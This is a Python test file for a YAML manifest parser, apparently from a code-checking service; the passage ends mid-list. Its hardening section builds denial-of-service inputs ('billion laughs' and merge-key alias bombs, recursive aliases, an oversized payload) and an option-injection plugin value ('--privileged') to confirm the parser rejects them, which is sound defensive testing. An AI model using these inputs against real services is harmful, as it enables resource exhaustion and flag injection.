"""Tests for cocov.manifest: the pure-Python .cocov.yaml parser."""

import os
import random
import re
import textwrap
import time
from functools import lru_cache

import pytest
import yaml

from cocov import manifest as manifest_module
from cocov.manifest import (
    MAX_MANIFEST_BYTES,
    CheckSpec,
    Manifest,
    ManifestError,
    Mount,
    clean_plugin_name,
    load_manifest,
    parse_manifest,
)

INVALID_DATA = ("manifest_invalid_or_missing_data", "Failure: Invalid or Missing Data in Manifest")
ROOT = ("manifest_root_must_be_mapping", "Invalid manifest: Root should be a mapping")


def yml(text):
    return textwrap.dedent(text).lstrip("\n")


def header(body=""):
    return 'version: "0.1.alpha"\n' + yml(body)


def parse_error(text):
    with pytest.raises(ManifestError) as info:
        parse_manifest(text)
    return info.value


# ------------------------------------------------------------------ error table

ERROR_CASES = [
    # root / version problems: extra is None
    pytest.param("", *ROOT, None, id="empty-file"),
    pytest.param("   \n# only a comment\n", *ROOT, None, id="comment-only"),
    pytest.param("- a\n- b\n", *ROOT, None, id="list-root"),
    pytest.param("just a string", *ROOT, None, id="scalar-root"),
    pytest.param("version: [unclosed\n", *ROOT, None, id="yaml-syntax-error"),
    pytest.param("a: b\n  c: d\n", *ROOT, None, id="yaml-bad-indent"),
    pytest.param(b"\xff\xfe\xfd: x\n", *ROOT, None, id="undecodable-bytes"),
    pytest.param("[" * 5000, *ROOT, None, id="deep-nesting"),
    pytest.param(
        "checks: []\n", "manifest_missing_version", "Failure: Invalid manifest", None, id="missing-version"
    ),
    pytest.param("version:\n", "manifest_missing_version", "Failure: Invalid manifest", None, id="null-version"),
    pytest.param(
        "version: 0.1\n", "manifest_version_type_mismatch", "Failure: Invalid manifest", None, id="float-version"
    ),
    pytest.param(
        "version: [a]\n", "manifest_version_type_mismatch", "Failure: Invalid manifest", None, id="list-version"
    ),
    pytest.param(
        'version: "0.2"\n',
        "manifest_version_unsupported",
        "Failure: Unsupported manifest version",
        None,
        id="unsupported-version",
    ),
    pytest.param(
        'version: "0.1.alpha "\n',
        "manifest_version_unsupported",
        "Failure: Unsupported manifest version",
        None,
        id="version-trailing-space",
    ),
    # schema violations
    pytest.param(header("foo: 1\n"), *INVALID_DATA, "(root): unknown key `foo'", id="unknown-root-key"),
    pytest.param(header("coverage: 80\n"), *INVALID_DATA, "coverage: must be a mapping", id="coverage-scalar"),
    pytest.param(
        header("coverage: {min_percent: 101}\n"),
        *INVALID_DATA,
        "coverage.min_percent: must be an integer between 0 and 100",
        id="min-percent-too-high",
    ),
    pytest.param(
        header("coverage: {min_percent: -1}\n"),
        *INVALID_DATA,
        "coverage.min_percent: must be an integer between 0 and 100",
        id="min-percent-negative",
    ),
    pytest.param(
        header("coverage: {min_percent: 50.5}\n"),
        *INVALID_DATA,
        "coverage.min_percent: must be an integer between 0 and 100",
        id="min-percent-float",
    ),
    pytest.param(
        header("coverage: {min_percent: true}\n"),
        *INVALID_DATA,
        "coverage.min_percent: must be an integer between 0 and 100",
        id="min-percent-bool",
    ),
    pytest.param(
        header('coverage: {min_percent: "80"}\n'),
        *INVALID_DATA,
        "coverage.min_percent: must be an integer between 0 and 100",
        id="min-percent-string",
    ),
    pytest.param(
        header("coverage: {min_percent: 80, max: 90}\n"),
        *INVALID_DATA,
        "coverage: unknown key `max'",
        id="coverage-unknown-key",
    ),
    pytest.param(
        header("exclude_paths: vendor/\n"), *INVALID_DATA, "exclude_paths: must be a list", id="exclude-not-list"
    ),
    pytest.param(
        header("exclude_paths: [vendor/, 3]\n"),
        *INVALID_DATA,
        "exclude_paths[1]: must be a non-empty string",
        id="exclude-non-string",
    ),
    pytest.param(
        header("exclude_paths: ['']\n"),
        *INVALID_DATA,
        "exclude_paths[0]: must be a non-empty string",
        id="exclude-empty-string",
    ),
    pytest.param(header("defaults: []\n"), *INVALID_DATA, "defaults: must be a mapping", id="defaults-list"),
    pytest.param(
        header("defaults: {envs: {A: b}}\n"), *INVALID_DATA, "defaults: unknown key `envs'", id="defaults-unknown"
    ),
    pytest.param(
        header("defaults: {checks: {image: x}}\n"),
        *INVALID_DATA,
        "defaults.checks: unknown key `image'",
        id="defaults-checks-unknown",
    ),
    pytest.param(
        header("defaults: {checks: {envs: [A]}}\n"),
        *INVALID_DATA,
        "defaults.checks.envs: must be a mapping",
        id="defaults-envs-list",
    ),
    pytest.param(
        header("defaults: {checks: {envs: {A: [1]}}}\n"),
        *INVALID_DATA,
        "defaults.checks.envs.A: must be a string, number or boolean",
        id="defaults-env-list-value",
    ),
    pytest.param(
        header("defaults: {checks: {envs: {A: }}}\n"),
        *INVALID_DATA,
        "defaults.checks.envs.A: must be a string, number or boolean",
        id="defaults-env-null-value",
    ),
    pytest.param(
        header("defaults: {checks: {envs: {1: a}}}\n"),
        *INVALID_DATA,
        "defaults.checks.envs: invalid environment variable name `1'",
        id="env-int-key",
    ),
    pytest.param(
        header("defaults: {checks: {envs: {'A=B': a}}}\n"),
        *INVALID_DATA,
        "defaults.checks.envs: invalid environment variable name `A=B'",
        id="env-key-with-equals",
    ),
    pytest.param(
        header("defaults: {checks: {mounts: {source: 'secrets:A'}}}\n"),
        *INVALID_DATA,
        "defaults.checks.mounts: must be a list",
        id="defaults-mounts-mapping",
    ),
    pytest.param(header("checks: {plugin: a}\n"), *INVALID_DATA, "checks: must be a list", id="checks-mapping"),
    pytest.param(
        header("checks: [cocov/rubocop]\n"), *INVALID_DATA, "checks[0]: must be a mapping", id="check-scalar"
    ),
    pytest.param(
        header(
            """
            checks:
              - plugin: cocov/rubocop:v0.1
              - envs: {A: b}
            """
        ),
        *INVALID_DATA,
        "checks[1].plugin: required",
        id="missing-plugin",
    ),
    pytest.param(
        header("checks: [{plugin: 12}]\n"), *INVALID_DATA, "checks[0].plugin: must be a string", id="plugin-int"
    ),
    pytest.param(
        header("checks: [{plugin: ':v1'}]\n"),
        *INVALID_DATA,
        "checks[0].plugin: invalid image reference `:v1'",
        id="plugin-empty-name",
    ),
    pytest.param(
        header("checks: [{plugin: '--privileged'}]\n"),
        *INVALID_DATA,
        "checks[0].plugin: invalid image reference `--privileged'",
        id="plugin-option-like",
    ),
    pytest.param(
        header("checks: [{plugin: 'cocov/a b'}]\n"),
        *INVALID_DATA,
        "checks[0].plugin: invalid image reference `cocov/a b'",
        id="plugin-whitespace",
    ),
    pytest.param(
        header("checks: [{plugin: cocov/a, image: x}]\n"),
        *INVALID_DATA,
        "checks[0]: unknown key `image'",
        id="check-unknown-key",
    ),
    pytest.param(
        header(
            """
            checks:
              - plugin: cocov/rubocop:v0.1
              - plugin: ghcr.io/cocov/rubocop:v0.2
            """
        ),
        *INVALID_DATA,
        "checks[1].plugin: duplicated plugin `cocov/rubocop' (already used by checks[0])",
        id="duplicated-plugin-name",
    ),
    pytest.param(
        header("checks: [{plugin: a, mounts: [secrets:A]}]\n"),
        *INVALID_DATA,
        "checks[0].mounts[0]: must be a mapping",
        id="mount-scalar",
    ),
    pytest.param(
        header("checks: [{plugin: a, mounts: [{source: 'secrets:A'}]}]\n"),
        *INVALID_DATA,
        "checks[0].mounts[0].destination: required",
        id="mount-missing-destination",
    ),
    pytest.param(
        header("checks: [{plugin: a, mounts: [{destination: /x}]}]\n"),
        *INVALID_DATA,
        "checks[0].mounts[0].source: required",
        id="mount-missing-source",
    ),
    pytest.param(
        header("checks: [{plugin: a, mounts: [{source: 1, destination: /x}]}]\n"),
        *INVALID_DATA,
        "checks[0].mounts[0].source: must be a string",
        id="mount-source-int",
    ),
    pytest.param(
        header("checks: [{plugin: a, mounts: [{source: 'secrets:A', destination: x}]}]\n"),
        *INVALID_DATA,
        "checks[0].mounts[0].destination: must be an absolute path",
        id="mount-relative-destination",
    ),
    pytest.param(
        header("checks: [{plugin: a, mounts: [{source: 'secrets:A', destination: /x, mode: ro}]}]\n"),
        *INVALID_DATA,
        "checks[0].mounts[0]: unknown key `mode'",
        id="mount-unknown-key",
    ),
    # mount sources
    pytest.param(
        header("checks: [{plugin: a, mounts: [{source: 'foo:bar', destination: /x}]}]\n"),
        "manifest_invalid_mount_source",
        "Failure: Invalid mount source",
        "Invalid mount source `foo:bar'",
        id="mount-source-not-secrets",
    ),
    pytest.param(
        header("checks: [{plugin: a, mounts: [{source: 'secrets:', destination: /x}]}]\n"),
        "manifest_invalid_mount_source",
        "Failure: Invalid mount source",
        "Invalid mount source `secrets:'",
        id="mount-source-empty-secret",
    ),
    pytest.param(
        header("defaults: {checks: {mounts: [{source: 'SECRETS:A', destination: /x}]}}\n"),
        "manifest_invalid_mount_source",
        "Failure: Invalid mount source",
        "Invalid mount source `SECRETS:A'",
        id="defaults-mount-source-case",
    ),
    # duplicated destinations
    pytest.param(
        header(
            """
            checks:
              - plugin: cocov/foo
                mounts:
                  - {source: "secrets:A", destination: /x}
                  - {source: "secrets:B", destination: /x}
            """
        ),
        "manifest_duplicated_mount_destination",
        "Failure: Duplicated mount destination",
        "Duplicated mount destination `/x' in check cocov/foo",
        id="duplicated-destination-in-check",
    ),
    pytest.param(
        header(
            """
            checks:
              - plugin: cocov/foo:v1
                mounts:
                  - {source: "secrets:A", destination: /x/y}
                  - {source: "secrets:B", destination: /x/y/}
            """
        ),
        "manifest_duplicated_mount_destination",
        "Failure: Duplicated mount destination",
        # Was `/x//y/'; empty path components are now rejected (see DESTINATION_CASES).
        "Duplicated mount destination `/x/y/' in check cocov/foo:v1",
        id="duplicated-destination-normalized",
    ),
    pytest.param(
        header(
            """
            defaults:
              checks:
                mounts:
                  - {source: "secrets:A", destination: /x}
                  - {source: "secrets:B", destination: /x}
            """
        ),
        "manifest_duplicated_mount_destination",
        "Failure: Duplicated mount destination",
        "Duplicated mount destination `/x' in defaults",
        id="duplicated-destination-in-defaults",
    ),
]


@pytest.mark.parametrize(("text", "kind", "description", "extra"), ERROR_CASES)
def test_parse_errors(text, kind, description, extra):
    error = parse_error(text)
    assert (error.kind, error.description, error.extra) == (kind, description, extra)


def test_error_is_exception_with_readable_str():
    error = ManifestError("manifest_unknown_secret", "Failure: Unknown secret", "Unknown secret `X'")
    assert isinstance(error, Exception)
    assert str(error) == "Failure: Unknown secret (Unknown secret `X')"
    assert str(ManifestError("k", "Message")) == "Message"
    assert ManifestError("k", "Message").extra is None


def test_first_error_in_manifest_order_wins():
    error = parse_error(header("coverage: {min_percent: 200}\nchecks: [{envs: {}}]\n"))
    assert error.extra == "coverage.min_percent: must be an integer between 0 and 100"


def test_oversized_text_is_a_schema_violation():
    text = header("# " + "x" * MAX_MANIFEST_BYTES + "\n")
    error = parse_error(text)
    assert (error.kind, error.description) == INVALID_DATA


# --------------------------------------------------------------------- accepted


def test_minimal_manifest():
    manifest = parse_manifest('version: "0.1.alpha"\n')
    assert manifest == Manifest(version="0.1.alpha")
    assert manifest.min_percent is None
    assert manifest.exclude_paths == ()
    assert manifest.checks == ()
    assert not manifest.has_checks
    assert manifest.secret_names() == set()


def test_bytes_input_and_null_optional_sections():
    text = header("coverage:\nexclude_paths:\ndefaults:\nchecks:\n  - plugin: cocov/a\n    mounts:\n    envs:\n")
    manifest = parse_manifest(text.encode("utf-8"))
    assert manifest.min_percent is None
    assert manifest.checks == (CheckSpec(plugin="cocov/a", name="cocov/a", envs={}, mounts=()),)


# Was `@sha256:abc`: a digest must now be sha256 with 64 hex digits.
DIGEST = "0123456789abcdef" * 4
FULL_MANIFEST = header(
    f"""
    coverage:
      min_percent: 80
    exclude_paths:
      - vendor/
      - "**/*.min.js"
      - docs/*.md
    defaults:
      checks:
        envs:
          LEVEL: warning
          STRICT: true
          RETRIES: 3
          RATIO: 0.5
        mounts:
          - source: secrets:GIT_CONFIG
            destination: /root/.gitconfig
          - source: secrets:NPMRC
            destination: /root/.npmrc
    checks:
      - plugin: cocov/rubocop:v0.1
        envs:
          LEVEL: error
          DEBUG: false
        mounts:
          - source: secrets:MY_NPMRC
            destination: /root/.npmrc
      - plugin: ghcr.io:443/org/brakeman@sha256:{DIGEST}
      - plugin: localhost:5000/eslint:1
        mounts:
    """
)


def test_full_manifest_round_trip():
    manifest = parse_manifest(FULL_MANIFEST)
    default_mounts = (
        Mount(secret_name="GIT_CONFIG", destination="/root/.gitconfig"),
        Mount(secret_name="NPMRC", destination="/root/.npmrc"),
    )
    default_envs = {"LEVEL": "warning", "STRICT": "true", "RETRIES": "3", "RATIO": "0.5"}
    assert manifest == Manifest(
        version="0.1.alpha",
        min_percent=80,
        exclude_paths=("vendor/", "**/*.min.js", "docs/*.md"),
        checks=(
            CheckSpec(
                plugin="cocov/rubocop:v0.1",
                name="cocov/rubocop",
                envs={"LEVEL": "error", "STRICT": "true", "RETRIES": "3", "RATIO": "0.5", "DEBUG": "false"},
                mounts=(
                    Mount(secret_name="MY_NPMRC", destination="/root/.npmrc"),
                    Mount(secret_name="GIT_CONFIG", destination="/root/.gitconfig"),
                ),
            ),
            CheckSpec(
                plugin=f"ghcr.io:443/org/brakeman@sha256:{DIGEST}",
                name="org/brakeman",
                envs=default_envs,
                mounts=default_mounts,
            ),
            CheckSpec(plugin="localhost:5000/eslint:1", name="eslint", envs=default_envs, mounts=default_mounts),
        ),
    )
    assert manifest.has_checks
    assert manifest.checks[0].mounts[0].source == "secrets:MY_NPMRC"
    # Immutable value objects, hashable despite the envs dict.
    with pytest.raises(AttributeError):
        manifest.min_percent = 10  # type: ignore[misc]
    assert hash(manifest) == hash(parse_manifest(FULL_MANIFEST))
    # Each check gets its own envs dict.
    assert manifest.checks[1].envs is not manifest.checks[2].envs


@pytest.mark.parametrize(
    ("defaults", "check", "expected_envs", "expected_mounts"),
    [
        pytest.param({"A": "1"}, {}, {"A": "1"}, None, id="default-env-inherited"),
        pytest.param({"A": "1"}, {"A": "2"}, {"A": "2"}, None, id="check-env-wins"),
        pytest.param({"A": "1"}, {"B": "2"}, {"A": "1", "B": "2"}, None, id="envs-union"),
    ],
)
def test_defaults_env_merging(defaults, check, expected_envs, expected_mounts):
    import yaml

    text = yaml.safe_dump(
        {"version": "0.1.alpha", "defaults": {"checks": {"envs": defaults}}, "checks": [{"plugin": "c", "envs": check}]}
    )
    assert parse_manifest(text).checks[0].envs == expected_envs


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("true", "true"),
        ("false", "false"),
        ("yes", "true"),  # YAML 1.1 boolean, as safe_load reads it
        ("42", "42"),
        ("-7", "-7"),
        ("1.5", "1.5"),
        ('"true"', "true"),
        ("'007'", "007"),
        ("hello world", "hello world"),
        ('""', ""),
    ],
)
def test_env_values_are_stringified(value, expected):
    manifest = parse_manifest(header(f"checks:\n  - plugin: c\n    envs:\n      V: {value}\n"))
    assert manifest.checks[0].envs == {"V": expected}


@pytest.mark.parametrize(
    ("default_mounts", "check_mounts", "expected"),
    [
        pytest.param([("A", "/a")], [], [("A", "/a")], id="default-added"),
        pytest.param([("A", "/a")], [("B", "/b")], [("B", "/b"), ("A", "/a")], id="check-first-then-defaults"),
        pytest.param([("A", "/a")], [("B", "/a")], [("B", "/a")], id="destination-taken-by-check"),
        pytest.param([("A", "/a/")], [("B", "/a")], [("B", "/a")], id="destination-taken-normalized"),
        pytest.param(
            [("A", "/a"), ("C", "/c")],
            [("B", "/a"), ("D", "/d")],
            [("B", "/a"), ("D", "/d"), ("C", "/c")],
            id="mixed",
        ),
        pytest.param([], [("B", "/b")], [("B", "/b")], id="no-defaults"),
    ],
)
def test_defaults_mount_merging(default_mounts, check_mounts, expected):
    import yaml

    def mounts(pairs):
        return [{"source": f"secrets:{name}", "destination": dest} for name, dest in pairs]

    text = yaml.safe_dump(
        {
            "version": "0.1.alpha",
            "defaults": {"checks": {"mounts": mounts(default_mounts)}},
            "checks": [{"plugin": "cocov/foo", "mounts": mounts(check_mounts)}],
        }
    )
    check = parse_manifest(text).checks[0]
    assert [(m.secret_name, m.destination) for m in check.mounts] == expected


def test_same_destination_in_two_checks_is_fine():
    text = header(
        """
        checks:
          - plugin: cocov/a
            mounts: [{source: "secrets:A", destination: /x}]
          - plugin: cocov/b
            mounts: [{source: "secrets:B", destination: /x}]
        """
    )
    assert [c.mounts[0].secret_name for c in parse_manifest(text).checks] == ["A", "B"]


# ------------------------------------------------------------------ plugin names


@pytest.mark.parametrize(
    ("image", "name"),
    [
        ("cocov/rubocop:v0.1", "cocov/rubocop"),
        ("cocov/rubocop", "cocov/rubocop"),
        ("ghcr.io:443/org/img:tag", "org/img"),
        ("ghcr.io/org/img", "org/img"),
        ("localhost:5000/img:1", "img"),
        ("localhost/img", "img"),
        ("org/img@sha256:abc", "org/img"),
        ("org/img:1.2@sha256:abc", "org/img"),
        ("registry.example.com:5000/a/b/c:latest", "a/b/c"),
        ("rubocop", "rubocop"),
        ("rubocop:latest", "rubocop"),
        ("ghcr.io", "ghcr.io"),  # a lone component is a repository, not a host
        ("my_org/img", "my_org/img"),
    ],
)
def test_clean_plugin_name(image, name):
    assert clean_plugin_name(image) == name


def test_check_keeps_plugin_as_written():
    check = parse_manifest(header("checks: [{plugin: 'ghcr.io/org/img:v2'}]\n")).checks[0]
    assert (check.plugin, check.name) == ("ghcr.io/org/img:v2", "org/img")


# ---------------------------------------------------------------- exclude paths


@pytest.mark.parametrize(
    ("patterns", "path", "excluded"),
    [
        (["vendor/"], "vendor/a.rb", True),
        (["vendor/"], "vendor/deep/down/a.rb", True),
        (["vendor/"], "vendor", False),
        (["vendor/"], "vendored/a.rb", False),
        (["vendor/"], "app/vendor/a.rb", False),
        (["vendor/"], "./vendor/a.rb", True),
        (["**/*.min.js"], "app.min.js", True),
        (["**/*.min.js"], "public/js/app.min.js", True),
        (["**/*.min.js"], "public/js/app.js", False),
        (["docs/*.md"], "docs/a.md", True),
        (["docs/*.md"], "docs/a/b.md", False),
        (["docs/*.md"], "docs/a.txt", False),
        (["docs/**"], "docs/a/b.md", True),
        (["docs/**/b.md"], "docs/b.md", True),
        (["docs/**/b.md"], "docs/x/y/b.md", True),
        (["*.md"], "README.md", True),
        (["*.md"], "docs/README.md", False),
        (["src/?.py"], "src/a.py", True),
        (["src/?.py"], "src/ab.py", False),
        (["src?a.py"], "src/a.py", False),
        (["file[0-9].txt"], "file3.txt", True),
        (["file[!0-9].txt"], "file3.txt", False),
        (["file[!0-9].txt"], "fileX.txt", True),
        (["a[/]b"], "a/b", False),
        (["weird[.txt"], "weird[.txt", True),
        (["a.b"], "aXb", False),
        (["/vendor/"], "vendor/a.rb", True),
        (["lib/", "tmp/"], "tmp/x", True),
        ([], "anything", False),
    ],
)
def test_is_path_excluded(patterns, path, excluded):
    manifest = Manifest(version="0.1.alpha", exclude_paths=tuple(patterns))
    assert manifest.is_path_excluded(path) is excluded


def test_exclude_paths_from_yaml():
    manifest = parse_manifest(FULL_MANIFEST)
    assert manifest.is_path_excluded("vendor/bundle/x.rb")
    assert manifest.is_path_excluded("assets/app.min.js")
    assert manifest.is_path_excluded("docs/index.md")
    assert not manifest.is_path_excluded("docs/guide/index.md")
    assert not manifest.is_path_excluded("app/models/user.rb")


# ---------------------------------------------------------------------- secrets


SECRETS_MANIFEST = header(
    """
    defaults:
      checks:
        mounts:
          - {source: "secrets:SHARED", destination: /shared}
          - {source: "secrets:OVERRIDDEN", destination: /o}
    checks:
      - plugin: cocov/a
        mounts:
          - {source: "secrets:FIRST", destination: /o}
      - plugin: cocov/b
        mounts:
          - {source: "secrets:SECOND", destination: /b}
    """
)


def test_secret_names():
    assert parse_manifest(SECRETS_MANIFEST).secret_names() == {"FIRST", "SHARED", "SECOND", "OVERRIDDEN"}


@pytest.mark.parametrize(
    ("known", "missing"),
    [
        ({"FIRST", "SHARED", "SECOND", "OVERRIDDEN"}, None),
        ({"FIRST", "SHARED", "SECOND", "OVERRIDDEN", "EXTRA"}, None),
        (set(), "FIRST"),
        ({"FIRST"}, "SHARED"),
        ({"FIRST", "SHARED", "OVERRIDDEN"}, "SECOND"),
        (["FIRST", "SHARED", "SECOND"], "OVERRIDDEN"),  # any iterable works
    ],
)
def test_require_secrets(known, missing):
    manifest = parse_manifest(SECRETS_MANIFEST)
    if missing is None:
        assert manifest.require_secrets(known) is None
        return
    with pytest.raises(ManifestError) as info:
        manifest.require_secrets(known)
    error = info.value
    assert (error.kind, error.description, error.extra) == (
        "manifest_unknown_secret",
        "Failure: Unknown secret",
        f"Unknown secret `{missing}'",
    )


def test_unused_default_secret_is_not_referenced_without_checks():
    manifest = parse_manifest(header("defaults: {checks: {mounts: [{source: 'secrets:X', destination: /x}]}}\n"))
    assert manifest.secret_names() == set()
    manifest.require_secrets(set())


# -------------------------------------------------------------------- load_manifest


def test_load_manifest_missing_file(tmp_path):
    assert load_manifest(tmp_path) is None


def test_load_manifest_missing_tree(tmp_path):
    assert load_manifest(tmp_path / "nope") is None


def test_load_manifest_reads_file(tmp_path):
    (tmp_path / ".cocov.yaml").write_text(FULL_MANIFEST, encoding="utf-8")
    assert load_manifest(tmp_path) == parse_manifest(FULL_MANIFEST)
    assert load_manifest(str(tmp_path)) == parse_manifest(FULL_MANIFEST)


def test_load_manifest_propagates_parse_errors(tmp_path):
    (tmp_path / ".cocov.yaml").write_text("", encoding="utf-8")
    with pytest.raises(ManifestError) as info:
        load_manifest(tmp_path)
    assert (info.value.kind, info.value.description) == ROOT


def test_load_manifest_too_large(tmp_path):
    with open(tmp_path / ".cocov.yaml", "wb") as fh:
        fh.write(b'version: "0.1.alpha"\n')
        fh.truncate(MAX_MANIFEST_BYTES + 1)
    with pytest.raises(ManifestError) as info:
        load_manifest(tmp_path)
    assert (info.value.kind, info.value.description) == INVALID_DATA
    assert info.value.extra == f".cocov.yaml: file is larger than {MAX_MANIFEST_BYTES} bytes"


def test_load_manifest_exactly_at_limit(tmp_path):
    body = b'version: "0.1.alpha"\n#'
    (tmp_path / ".cocov.yaml").write_bytes(body + b"x" * (MAX_MANIFEST_BYTES - len(body)))
    assert load_manifest(tmp_path) == Manifest(version="0.1.alpha")


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symlinks")
def test_load_manifest_refuses_symlink(tmp_path):
    outside = tmp_path / "outside.yaml"
    outside.write_text('version: "0.1.alpha"\n', encoding="utf-8")
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / ".cocov.yaml").symlink_to(outside)
    with pytest.raises(ManifestError) as info:
        load_manifest(tree)
    assert (info.value.kind, info.value.description) == INVALID_DATA


def test_load_manifest_refuses_directory(tmp_path):
    (tmp_path / ".cocov.yaml").mkdir()
    with pytest.raises(ManifestError) as info:
        load_manifest(tmp_path)
    assert info.value.extra == ".cocov.yaml: must be a regular file"


# =============================================================== hardening rules

UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\ud800-\udfff\u2028\u2029\u202a-\u202e\u2066-\u2069]")
HEX64 = "0123456789abcdef" * 4


def dump(document):
    """Manifest text for a Python structure (``version`` added)."""
    return yaml.safe_dump({"version": "0.1.alpha", **document}, sort_keys=False, allow_unicode=True)


def one_check(**fields):
    return dump({"checks": [{"plugin": "cocov/a", **fields}]})


def assert_safe_extra(error):
    extra = error.extra
    assert extra is None or (not UNSAFE.search(extra) and len(extra) <= 400), extra
    if extra is not None:
        extra.encode("utf-8")  # no lone surrogates
    str(error).encode("utf-8")


def assert_invalid(text, extra):
    error = parse_error(text)
    assert (error.kind, error.description, error.extra) == (*INVALID_DATA, extra)
    assert_safe_extra(error)
    return error


# ------------------------------------------- 1. alias expansion and size limits


def billion_laughs(levels=9, leaf='"lol"'):
    text = 'version: "0.1.alpha"\nl0: &l0 [' + ", ".join([leaf] * 10) + "]\n"
    for level in range(1, levels + 1):
        text += f"l{level}: &l{level} [" + ", ".join([f"*l{level - 1}"] * 10) + "]\n"
    return text


def worker_payload_bomb():
    """The tester's reproduction: 3,000 references to a 20,000-character value, in
    defaults inherited by 10 checks (a 600 MB Worker payload before)."""
    envs = "".join(f"      E{i}: *big\n" for i in range(3000))
    checks = "".join(f"  - plugin: cocov/p{i}\n" for i in range(10))
    return f'version: "0.1.alpha"\ndefaults:\n  checks:\n    envs:\n      BIG: &big {"x" * 20000}\n{envs}checks:\n{checks}'


def merge_key_bomb(levels=8):
    text = 'version: "0.1.alpha"\nm0: &m0 {' + ", ".join(f"k{i}: {i}" for i in range(10)) + "}\n"
    for level in range(1, levels + 1):
        text += f"m{level}: &m{level} {{<<: [" + ", ".join([f"*m{level - 1}"] * 10) + "]}\n"
    return text


TOO_MANY_CHARS = "the document is too large once aliases are expanded (more than 1048576 characters of text)"
TOO_MANY_VALUES = "the document is too large once aliases are expanded (more than 100000 values)"

BUDGET_CASES = [
    pytest.param(worker_payload_bomb(), "defaults.checks.envs.E", TOO_MANY_CHARS, id="worker-payload-bomb"),
    pytest.param(billion_laughs(), "l", TOO_MANY_VALUES, id="billion-laughs"),
    pytest.param(billion_laughs(levels=4, leaf='"' + "x" * 2000 + '"'), "l", TOO_MANY_CHARS, id="long-string-laughs"),
    pytest.param(merge_key_bomb(), "m", TOO_MANY_VALUES, id="merge-key-bomb"),
    pytest.param(
        header("a: &a [" + ", ".join(["1"] * 1000) + "]\nb: [" + ", ".join(["*a"] * 101) + "]\n"),
        "b[",
        TOO_MANY_VALUES,
        id="flat-node-budget",
    ),
    pytest.param(header("checks: &c [*c]\n"), "checks[0]", "recursive aliases are not allowed", id="recursive-list"),
    pytest.param(
        header("defaults: &d {checks: *d}\n"), "defaults.checks", "recursive aliases are not allowed", id="recursive-map"
    ),
]


@pytest.mark.parametrize(("text", "where", "what"), BUDGET_CASES)
def test_alias_expansion_is_bounded(text, where, what):
    started = time.perf_counter()
    error = parse_error(text)
    elapsed = time.perf_counter() - started
    assert (error.kind, error.description) == INVALID_DATA
    assert error.extra.startswith(where) and error.extra.endswith(": " + what), error.extra
    assert_safe_extra(error)
    assert elapsed < 5, elapsed  # dominated by PyYAML's own parsing; the walk stops at the limit


def test_worker_payload_bomb_message_names_the_overflowing_key():
    error = parse_error(worker_payload_bomb())
    # BIG and E0..E51 are 53 x 20,000 characters: the first over 1 MiB is E51.
    assert error.extra == f"defaults.checks.envs.E51: {TOO_MANY_CHARS}"


def test_aliases_within_budget_are_fine():
    text = header(
        """
        checks:
          - plugin: cocov/a
            envs: &envs {A: "1", B: two}
            mounts: &mounts [{source: "secrets:S", destination: /s}]
          - plugin: cocov/b
            envs: *envs
            mounts: *mounts
        """
    )
    first, second = parse_manifest(text).checks
    assert first.envs == second.envs == {"A": "1", "B": "two"}
    assert first.mounts == second.mounts == (Mount(secret_name="S", destination="/s"),)


def test_largest_legal_manifest_is_accepted():
    """100 checks x (200 envs, 50 mounts), via aliases: about 66,000 values."""
    envs = "{" + ", ".join(f"E{i}: v{i}" for i in range(200)) + "}"
    mounts = "[" + ", ".join(f'{{source: "secrets:S{i}", destination: /m/{i}}}' for i in range(50)) + "]"
    checks = f"  - {{plugin: cocov/p0, envs: &e {envs}, mounts: &m {mounts}}}\n"
    checks += "".join(f"  - {{plugin: cocov/p{i}, envs: *e, mounts: *m}}\n" for i in range(1, 100))
    manifest = parse_manifest(header("checks:\n" + checks))
    assert len(manifest.checks) == 100
    assert all(len(c.envs) == 200 and len(c.mounts) == 50 for c in manifest.checks)


def _envs(count, prefix="E", value="v"):
    return {f"{prefix}{i}": value for i in range(count)}


def _mounts(count, prefix="m"):
    return [{"source": f"secrets:S{prefix}{i}", "destination": f"/{prefix}/{i}"} for i in range(count)]


LIMIT_CASES = [
    # checks
    pytest.param(dump({"checks": [{"plugin": f"cocov/p{i}"} for i in range(100)]}), None, id="100-checks"),
    pytest.param(
        dump({"checks": [{"plugin": f"cocov/p{i}"} for i in range(101)]}),
        "checks: at most 100 checks are allowed",
        id="101-checks",
    ),
    # environment variables per check
    pytest.param(one_check(envs=_envs(200)), None, id="200-envs"),
    pytest.param(one_check(envs=_envs(201)), "checks[0].envs: at most 200 environment variables are allowed", id="201-envs"),
    pytest.param(
        dump({"defaults": {"checks": {"envs": _envs(201)}}}),
        "defaults.checks.envs: at most 200 environment variables are allowed",
        id="201-default-envs",
    ),
    pytest.param(
        dump({"defaults": {"checks": {"envs": _envs(150)}}, "checks": [{"plugin": "c", "envs": _envs(51, "O")}]}),
        "checks[0].envs: at most 200 environment variables are allowed per check (defaults included)",
        id="201-merged-envs",
    ),
    pytest.param(
        dump({"defaults": {"checks": {"envs": _envs(150)}}, "checks": [{"plugin": "c", "envs": _envs(60, "E")}]}),
        None,
        id="overridden-envs-count-once",
    ),
    # mounts per check
    pytest.param(one_check(mounts=_mounts(50)), None, id="50-mounts"),
    pytest.param(one_check(mounts=_mounts(51)), "checks[0].mounts: at most 50 mounts are allowed", id="51-mounts"),
    pytest.param(
        dump({"defaults": {"checks": {"mounts": _mounts(51)}}}),
        "defaults.checks.mounts: at most 50 mounts are allowed",
        id="51-default-mounts",
    ),
    pytest.param(
        dump({"defaults": {"checks": {"mounts": _mounts(30)}}, "checks": [{"plugin": "c", "mounts": _mounts(21, "o")}]}),
        "checks[0].mounts: at most 50 mounts are allowed per check (defaults included)",
        id="51-merged-mounts",
    ),
    pytest.param(
        dump(
            {
                "defaults": {"checks": {"mounts": _mounts(30)}},
                "checks": [{"plugin": "c", "mounts": _mounts(20, "o") + [{"source": "secrets:X", "destination": "/m/0/"}]}],
            }
        ),
        None,
        id="overridden-mount-counts-once",
    ),
    # env value size (UTF-8 bytes)
    pytest.param(one_check(envs={"V": "x" * 32768}), None, id="env-value-32KiB"),
    pytest.param(one_check(envs={"V": "x" * 32769}), "checks[0].envs.V: must be at most 32768 bytes", id="env-value-too-big"),
    pytest.param(one_check(envs={"V": "é" * 16384}), None, id="env-value-32KiB-multibyte"),
    pytest.param(
        one_check(envs={"V": "é" * 16385}), "checks[0].envs.V: must be at most 32768 bytes", id="env-value-multibyte-too-big"
    ),
    pytest.param(
        dump({"defaults": {"checks": {"envs": {"V": "x" * 32769}}}}),
